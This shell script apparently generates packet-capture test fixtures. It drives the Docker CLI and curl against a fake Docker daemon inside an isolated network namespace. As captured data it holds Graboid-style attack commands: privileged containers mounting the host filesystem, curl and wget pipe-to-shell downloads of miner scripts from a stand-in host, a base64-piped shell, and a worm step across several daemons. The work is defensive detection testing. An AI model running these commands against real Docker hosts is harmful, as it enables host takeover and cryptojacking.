#!/bin/sh
# Makes pcaps/docker-*.pcap: the real docker CLI (client only, /usr/local/bin/docker)
# and curl talking to tests/tools/fake_dockerd.py on 127.0.0.1:2375, inside a
# network namespace this script creates and deletes (nothing leaves it; the
# URLs inside container commands are never fetched: the fake daemon runs
# nothing). Needs root, iproute2, tcpdump, python3, curl, docker.
# Usage: tests/tools/make_docker_pcaps.sh [OUTDIR]   (default pcaps/)
set -eu
R=$(cd "$(dirname "$0")/../.." && pwd)
O=${1:-$R/pcaps}
NS="ip netns exec fdpcap"
cfg=$(mktemp -d)
ip netns del fdpcap 2>/dev/null || true
ip netns add fdpcap
FAKE=""
trap 'kill $FAKE 2>/dev/null; ip netns del fdpcap; rm -rf "$cfg"' EXIT
$NS ip link set lo up
$NS python3 "$R/tests/tools/fake_dockerd.py" 2375 2>/dev/null &
FAKE=$!
# three more daemons on other loopback addresses (all of 127/8 is local), for the worm
for a in 127.0.0.2 127.0.0.3 127.0.0.4; do
    $NS python3 "$R/tests/tools/fake_dockerd.py" 2375 "$a" 2>/dev/null &
    FAKE="$FAKE $!"
done
sleep 1
D="$NS env DOCKER_CONFIG=$cfg /usr/local/bin/docker -H tcp://127.0.0.1:2375"
cap() { # NAME COMMAND...: capture one command's conversation
    name=$1
    shift
    $NS tcpdump -i lo -U -s 0 -w "$O/docker-$name.pcap" tcp port 2375 2>/dev/null &
    tp=$!
    sleep 1
    "$@" >/dev/null 2>&1 || true
    sleep 1
    kill $tp
    wait $tp 2>/dev/null || true
}
cap version $D version
cap pull $D pull pocosow/centos:7.6.1810
cap run-priv $D run --privileged -v /:/host -d --name graboid pocosow/centos sh -c 'curl -s http://198.51.100.9/xmr.sh | sh'
cap run-mount $D run -d --pid host --net host --ipc host --cap-add SYS_ADMIN --device /dev/mem --security-opt seccomp=unconfined --mount type=bind,source=/etc,target=/hostetc -e AWS_SECRET_ACCESS_KEY=hunter2 -e FOO=bar --entrypoint /bin/sh alpine -c 'wget -q -O - http://198.51.100.9/d.sh | sh'
cap exec $D exec -u root --privileged graboid sh -c 'echo aWQ= | base64 -d | sh'
cap stop $D stop graboid
cap kill $D kill graboid
cap rm $D rm -f graboid
cap curl-chunked $NS curl -s -H 'Transfer-Encoding: chunked' -H 'Content-Type: application/json' -A 'curl/7.88.1' --data-binary '{"Image":"alpine","Cmd":["/bin/sh","-c","curl -s http://198.51.100.9/x.sh|bash"],"HostConfig":{"Privileged":true,"Binds":["/:/mnt"]}}' 'http://127.0.0.1:2375/v1.24/containers/create?name=x1'
cap curl-keepalive $NS curl -s http://127.0.0.1:2375/_ping http://127.0.0.1:2375/v1.41/version http://127.0.0.1:2375/v1.41/info -X GET
# one source deploying the same miner container on three daemons (Graboid's xmr.sh)
worm() {
    for a in 127.0.0.2 127.0.0.3 127.0.0.4; do
        $NS env DOCKER_CONFIG=$cfg /usr/local/bin/docker -H tcp://$a:2375 run -d gakeaws/nginx:v8.9
    done
}
cap worm worm
# TLS to the Docker TLS port (2376): the docker CLI's handshake with an openssl
# s_server front (self-signed, made here); no API content is visible
openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=dockerd.test -days 2 \
    -keyout "$cfg/key.pem" -out "$cfg/cert.pem" 2>/dev/null
cp "$cfg/cert.pem" "$cfg/ca.pem" # docker --tls reads a CA from its cert path
$NS openssl s_server -quiet -accept 127.0.0.1:2376 -cert "$cfg/cert.pem" -key "$cfg/key.pem" \
    -www >/dev/null 2>&1 </dev/null &
FAKE="$FAKE $!"
sleep 1
capport() { # NAME PORT COMMAND...
    name=$1
    port=$2
    shift 2
    $NS tcpdump -i lo -U -s 0 -w "$O/docker-$name.pcap" tcp port "$port" 2>/dev/null &
    tp=$!
    sleep 1
    "$@" >/dev/null 2>&1 || true
    sleep 1
    kill $tp
    wait $tp 2>/dev/null || true
}
capport tls 2376 $NS env DOCKER_CONFIG=$cfg DOCKER_CERT_PATH=$cfg /usr/local/bin/docker \
    -H tcp://127.0.0.1:2376 --tls version
# a Node.js client (dockerode from npm) doing Graboid's worm.sh steps
if command -v npm >/dev/null 2>&1 && command -v node >/dev/null 2>&1; then
    mods=$(mktemp -d)
    (cd "$mods" && npm install --silent --no-audit --no-fund dockerode@4 >/dev/null 2>&1)
    cap dockerode $NS env NODE_PATH="$mods/node_modules" node "$R/tests/tools/dockerode_worm.js" \
        127.0.0.1 2375
    rm -rf "$mods"
fi
